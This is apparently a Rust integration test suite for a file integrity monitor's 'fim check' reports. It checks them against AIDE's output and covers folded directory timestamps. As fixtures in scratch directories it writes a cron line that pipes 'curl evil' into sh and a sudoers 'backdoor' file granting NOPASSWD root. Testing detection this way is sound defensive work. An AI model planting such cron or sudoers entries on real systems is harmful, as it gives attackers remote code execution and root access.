//! What `fim check` tells a person and a script: summary counts, each changed attribute with
//! its old and new value (checked against what AIDE prints for the same change), and directory
//! timestamps folded into the entries added or removed in them.

use crate::common::{config_for, p, scratch, start, wait_change};
use clap::Parser;
use guestward_fim::cli::{FimCommand, run_with};
use guestward_fim::config::Attribute;
use guestward_fim::{ChangeKind, Config, FimChange, Mechanism};
use serde_json::Value;
use std::collections::BTreeMap;
use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use std::time::Duration;

#[derive(Parser)]
struct Top {
    #[command(subcommand)]
    cmd: FimCommand,
}

/// Runs `guestward-agent fim <args>` in process (the same function the binary calls), returning
/// the exit code and stdout.
fn fim(config: &Config, state: &Path, args: &[&str]) -> (u8, String) {
    let state_arg = state.display().to_string();
    let cmd = Top::parse_from(["fim"].into_iter().chain(args.iter().copied()).chain([
        "--state-dir",
        &state_arg,
        "--no-progress",
    ]))
    .cmd;
    let (mut out, mut err) = (Vec::new(), Vec::new());
    let code = run_with(&cmd, config, state, &mut out, &mut err);
    assert!(code != 2, "fim {args:?} failed: {}", String::from_utf8_lossy(&err));
    (code, String::from_utf8(out).unwrap())
}

/// AIDE's "Detailed information about changes" section: path -> attribute -> (old, new), the
/// values as AIDE prints them (continuation lines of long values joined).
fn aide_details(output: &str) -> BTreeMap<String, BTreeMap<String, (String, String)>> {
    let mut out: BTreeMap<String, BTreeMap<String, (String, String)>> = BTreeMap::new();
    let mut inside = false;
    let mut path: Option<String> = None;
    let mut last: Option<String> = None;
    for line in output.lines() {
        if line.starts_with("Detailed information about changes") {
            inside = true;
            continue;
        }
        if line.starts_with("The attributes of the") {
            break;
        }
        if !inside {
            continue;
        }
        if let Some((kind, p)) = line.split_once(": ")
            && !line.starts_with(' ')
            && ["File", "Directory", "Link"].contains(&kind)
        {
            path = Some(p.to_string());
            continue;
        }
        let Some(current) = &path else { continue };
        let Some((left, right)) = line.split_once('|') else { continue };
        let attrs = out.entry(current.clone()).or_default();
        match left.split_once(" : ") {
            Some((name, old)) => {
                let name = name.trim().to_string();
                attrs.insert(name.clone(), (old.trim().to_string(), right.trim().to_string()));
                last = Some(name);
            }
            None => {
                // The rest of a long value (base64 hashes wrap after 32 characters).
                if let Some((old, new)) = last.as_ref().and_then(|n| attrs.get_mut(n)) {
                    old.push_str(left.trim());
                    new.push_str(right.trim());
                }
            }
        }
    }
    out
}

/// `-rw-r--r--` -> `0644` (AIDE's Perm column; setuid/setgid/sticky as `s`/`S`/`t`/`T`).
fn octal_of_symbolic(perm: &str) -> String {
    let b: Vec<char> = perm.chars().collect();
    assert_eq!(b.len(), 10, "not a permission string: {perm}");
    let mut mode = 0u32;
    for (i, bit) in [(1, 0o400), (2, 0o200), (4, 0o040), (5, 0o020), (7, 0o004), (8, 0o002)] {
        if b[i] != '-' {
            mode |= bit;
        }
    }
    for (i, exec, special) in [(3, 0o100, 0o4000), (6, 0o010, 0o2000), (9, 0o001, 0o1000)] {
        match b[i] {
            'x' => mode |= exec,
            's' | 't' => mode |= exec | special,
            'S' | 'T' => mode |= special,
            _ => {}
        }
    }
    format!("{mode:04o}")
}

/// AIDE prints digests in base64; guestward in hex.
fn hex_of_base64(b64: &str) -> String {
    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut bits = 0u32;
    let mut nbits = 0;
    let mut out = String::new();
    for c in b64.bytes().filter(|&c| c != b'=') {
        let v = alphabet.iter().position(|&a| a == c).unwrap_or_else(|| panic!("not base64: {b64}"));
        bits = (bits << 6) | v as u32;
        nbits += 6;
        if nbits >= 8 {
            nbits -= 8;
            out.push_str(&format!("{:02x}", (bits >> nbits) & 0xff));
        }
    }
    out
}

/// The `name: old -> new` line of `attr` under the entry `path` in the human report.
fn human_value_line<'a>(human: &'a str, path: &str, attr: &str) -> Option<(&'a str, &'a str)> {
    let mut lines = human.lines().skip_while(|l| l.split_whitespace().nth(1) != Some(path));
    lines.next()?;
    lines.take_while(|l| l.starts_with("    ")).find_map(|l| {
        let mut words = l.split_whitespace();
        (words.next()? == format!("{attr}:")).then_some(())?;
        let (old, arrow, new) = (words.next()?, words.next()?, words.next()?);
        (arrow == "->").then_some((old, new))
    })
}

fn json_value<'a>(change: &'a Value, attr: &str) -> (&'a str, &'a str) {
    let a = change["attributes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["name"] == attr)
        .unwrap_or_else(|| panic!("no {attr} in {change:#}"));
    (a["old"].as_str().unwrap(), a["new"].as_str().unwrap())
}

#[test]
fn fim_check_shows_old_and_new_values_that_match_aide() {
    if Command::new("aide").arg("--version").output().is_err() {
        guestward_core::testing::skip_or_fail(
            "fim_check_shows_old_and_new_values_that_match_aide",
            "aide is not installed (apt-get install aide)",
        );
        return;
    }
    if !nix::unistd::geteuid().is_root() {
        guestward_core::testing::skip_or_fail(
            "fim_check_shows_old_and_new_values_that_match_aide",
            "chown to uid 1000 needs root (CI runs the tests as root)",
        );
        return;
    }
    let dir = scratch();
    let tree = dir.path().join("tree");
    std::fs::create_dir_all(&tree).unwrap();
    let file = tree.join("app.conf");
    std::fs::write(&file, "listen 80\n").unwrap();
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::os::unix::fs::chown(&file, Some(0), Some(0)).unwrap();
    let conf = dir.path().join("aide.conf");
    std::fs::write(
        &conf,
        format!(
            "database_in=file:{d}/aide.db\ndatabase_out=file:{d}/aide.db.new\ngzip_dbout=no\nreport_url=stdout\n\
             R = p+u+g+s+m+c+i+sha256\n{t} R\n",
            d = dir.path().display(),
            t = tree.display()
        ),
    )
    .unwrap();
    let aide = |args: &[&str]| {
        let conf = conf.clone();
        let args: Vec<String> = args.iter().map(|a| a.to_string()).collect();
        guestward_core::testing::within(Duration::from_secs(60), "aide", move || {
            Command::new("aide").args(&args).arg("-c").arg(&conf).output().unwrap()
        })
    };
    let init = aide(&["--init"]);
    assert!(init.status.success(), "{}", String::from_utf8_lossy(&init.stderr));
    std::fs::rename(dir.path().join("aide.db.new"), dir.path().join("aide.db")).unwrap();
    let config = config_for(&tree, vec![]);
    let state = dir.path().join("state");
    fim(&config, &state, &["init"]);

    // The change: chmod 600, bytes appended, chown 1000.
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
    std::fs::OpenOptions::new().append(true).open(&file).unwrap().write_all(b"listen 443\n").unwrap();
    std::os::unix::fs::chown(&file, Some(1000), None).unwrap();

    let check = aide(&["--check"]);
    let aide_out = String::from_utf8_lossy(&check.stdout).into_owned();
    let details = aide_details(&aide_out);
    let theirs = details.get(&p(&file)).unwrap_or_else(|| panic!("AIDE output not understood:\n{aide_out}"));
    let aide_value = |name: &str| {
        theirs.get(name).cloned().unwrap_or_else(|| panic!("AIDE shows no {name} for the file:\n{aide_out}"))
    };
    let (perm_old, perm_new) = aide_value("Perm");
    let expected: Vec<(&str, String, String)> = vec![
        ("mode", octal_of_symbolic(&perm_old), octal_of_symbolic(&perm_new)),
        ("size", aide_value("Size").0, aide_value("Size").1),
        ("uid", aide_value("Uid").0, aide_value("Uid").1),
        ("sha256", hex_of_base64(&aide_value("SHA256").0), hex_of_base64(&aide_value("SHA256").1)),
    ];
    // What AIDE printed is the change made (the oracle is read right).
    assert_eq!(expected[0].1.as_str(), "0644", "{aide_out}");
    assert_eq!(expected[0].2.as_str(), "0600", "{aide_out}");
    assert_eq!(expected[2].2.as_str(), "1000", "{aide_out}");
    assert_eq!(expected[3].1, crate::common::sha256_hex(b"listen 80\n"), "{aide_out}");

    // JSON: every value in full.
    let (code, json) = fim(&config, &state, &["check", "--json"]);
    assert_eq!(code, 1, "{json}");
    let report: Value = serde_json::from_str(&json).unwrap();
    let change = report["changes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["path"] == p(&file).as_str())
        .unwrap_or_else(|| panic!("{json}"));
    for (name, old, new) in &expected {
        assert_eq!(json_value(change, name), (old.as_str(), new.as_str()), "{name}: AIDE said\n{aide_out}");
    }
    assert_eq!(report["summary"]["counts"]["modified"], 1, "{json}");

    // Human: the same values, hashes abbreviated to their first 12 digits.
    let (code, human) = fim(&config, &state, &["check"]);
    assert_eq!(code, 1, "{human}");
    for (name, old, new) in &expected {
        let (o, n) = human_value_line(&human, &p(&file), name)
            .unwrap_or_else(|| panic!("no `{name}: old -> new` line under the file:\n{human}"));
        if *name == "sha256" {
            assert_eq!(
                (o, n),
                (format!("{}\u{2026}", &old[..12]).as_str(), format!("{}\u{2026}", &new[..12]).as_str())
            );
        } else {
            assert_eq!((o, n), (old.as_str(), new.as_str()), "{name}:\n{human}\nAIDE said\n{aide_out}");
        }
    }
    assert!(human.contains("0 added, 0 removed, 1 modified"), "{human}");
    assert!(human.contains("entries checked"), "{human}");
}

#[test]
fn a_file_added_to_a_baselined_directory_is_reported_without_the_directory_mtime() {
    let dir = scratch();
    let tree = dir.path().join("tree");
    std::fs::create_dir_all(tree.join("cron.d")).unwrap();
    std::fs::create_dir_all(tree.join("touched")).unwrap();
    std::fs::create_dir_all(tree.join("chmodded")).unwrap();
    std::fs::write(tree.join("cron.d/daily"), "0 0 * * * backup\n").unwrap();
    std::fs::write(tree.join("cron.d/gone"), "x\n").unwrap();
    let config = config_for(&tree, vec![]);
    let state = dir.path().join("state");
    fim(&config, &state, &["init"]);

    // Entries added and removed: the directory's mtime/ctime move because of them only.
    std::fs::write(tree.join("cron.d/job"), "* * * * * curl evil | sh\n").unwrap();
    std::fs::remove_file(tree.join("cron.d/gone")).unwrap();
    // A directory whose mtime changed with nothing added or removed: reported on its own.
    let f = std::fs::File::open(tree.join("touched")).unwrap();
    f.set_modified(std::time::SystemTime::UNIX_EPOCH + Duration::from_secs(1_000_000)).unwrap();
    // A directory whose mode changed too, while a file was added in it: reported (not only
    // its timestamps changed).
    std::fs::write(tree.join("chmodded/new"), "n").unwrap();
    std::fs::set_permissions(tree.join("chmodded"), std::fs::Permissions::from_mode(0o700)).unwrap();

    let (code, json) = fim(&config, &state, &["check", "--json"]);
    assert_eq!(code, 1, "{json}");
    let report: Value = serde_json::from_str(&json).unwrap();
    let changes: Vec<FimChange> = serde_json::from_value(report["changes"].clone()).unwrap();
    let listed: Vec<(String, ChangeKind)> = changes.iter().map(|c| (c.path.clone(), c.change)).collect();
    let cron = p(&tree.join("cron.d"));
    assert!(!listed.iter().any(|(path, _)| *path == cron), "the directory is folded: {listed:?}");
    for (name, kind) in [("cron.d/job", ChangeKind::Added), ("cron.d/gone", ChangeKind::Removed)] {
        let c =
            changes.iter().find(|c| c.path == p(&tree.join(name))).unwrap_or_else(|| panic!("{listed:?}"));
        assert_eq!(c.change, kind);
        let folded = c.folded_parent.as_ref().unwrap_or_else(|| panic!("{name}: no folded_parent: {c:?}"));
        assert_eq!(folded.path, cron);
        let names: Vec<Attribute> = folded.attributes.iter().map(|a| a.name).collect();
        assert!(names.contains(&Attribute::Mtime), "{folded:?}");
        assert!(folded.attributes.iter().all(|a| a.old.is_some() && a.new.is_some() && a.old != a.new));
    }
    let touched = changes.iter().find(|c| c.path == p(&tree.join("touched"))).unwrap();
    assert!(touched.changed.contains(&Attribute::Mtime), "{touched:?}");
    let chmodded = changes.iter().find(|c| c.path == p(&tree.join("chmodded"))).unwrap();
    assert!(chmodded.changed.contains(&Attribute::Mode), "{chmodded:?}");
    assert!(chmodded.changed.contains(&Attribute::Mtime), "{chmodded:?}");
    let added_in_chmodded = changes.iter().find(|c| c.path == p(&tree.join("chmodded/new"))).unwrap();
    assert_eq!(added_in_chmodded.folded_parent, None, "a directory reported on its own is not folded");
    let counts = &report["summary"]["counts"];
    assert_eq!(
        (&counts["added"], &counts["removed"], &counts["modified"], &counts["folded_directories"]),
        (&Value::from(2), &Value::from(1), &Value::from(2), &Value::from(1)),
        "{json}"
    );
    assert_eq!(report["summary"]["changes"], 5, "{json}");

    // Human: the file, no line for the directory, and the fold said in the summary.
    let (_, human) = fim(&config, &state, &["check"]);
    assert!(human.lines().any(|l| l.starts_with("added") && l.ends_with("cron.d/job")), "{human}");
    assert!(!human.lines().any(|l| l.starts_with("modified") && l.ends_with(&cron)), "{human}");
    assert!(human.lines().any(|l| l.starts_with("modified") && l.contains("touched")), "{human}");
    assert!(human.contains("5 change(s): 2 added, 1 removed, 2 modified;"), "{human}");
    assert!(
        human
            .contains("1 directory not listed on its own: its mtime/ctime moved only with the entries added"),
        "{human}"
    );
}

#[test]
fn realtime_entries_carry_their_directory_timestamps_and_a_rescan_does_not_report_the_directory() {
    let dir = scratch();
    let tree = dir.path().join("tree");
    std::fs::create_dir_all(tree.join("sudoers.d")).unwrap();
    std::fs::write(tree.join("sudoers.d/ops"), "ops ALL=(ALL) ALL\n").unwrap();
    let state = dir.path().join("state");
    let (monitor, events) = start(config_for(&tree, vec![]), &state);
    let sudoers = p(&tree.join("sudoers.d"));

    std::fs::write(tree.join("sudoers.d/backdoor"), "x ALL=(ALL) NOPASSWD: ALL\n").unwrap();
    let added =
        wait_change(&events, Duration::from_secs(10), |c| c.path == p(&tree.join("sudoers.d/backdoor")));
    assert_eq!((added.change, added.mechanism), (ChangeKind::Added, Mechanism::Realtime));
    let folded = added.folded_parent.as_ref().unwrap_or_else(|| panic!("no folded_parent: {added:?}"));
    assert_eq!(folded.path, sudoers);
    assert!(folded.attributes.iter().any(|a| a.name == Attribute::Mtime), "{folded:?}");
    assert_eq!(monitor.status().changes_realtime, 1, "{:?}", monitor.status());

    // The verification rescan finds the directory as recorded: nothing to report.
    monitor.request_rescan(None);
    let end = std::time::Instant::now() + Duration::from_secs(30);
    while monitor
        .status()
        .last_verification
        .as_ref()
        .is_none_or(|v| v.purpose != guestward_fim::Purpose::Rescan)
    {
        assert!(std::time::Instant::now() < end, "no rescan: {:?}", monitor.status());
        std::thread::sleep(Duration::from_millis(50));
    }
    let v = monitor.status().last_verification.unwrap();
    assert_eq!(v.changes, 0, "{v:?}; changes: {:#?}", crate::common::changes(&events));
    assert!(
        !crate::common::changes(&events).iter().any(|c| c.path == sudoers),
        "{:#?}",
        crate::common::changes(&events)
    );
    // `agentctl fim status`: live changes and the last verification's.
    let mut human = Vec::new();
    monitor.status().render_human(&mut human).unwrap();
    let human = String::from_utf8(human).unwrap();
    assert!(
        human.contains("changes:    1 since start (1 realtime, 0 by rescans); 0 at the last verification"),
        "{human}"
    );
    monitor.stop();
}
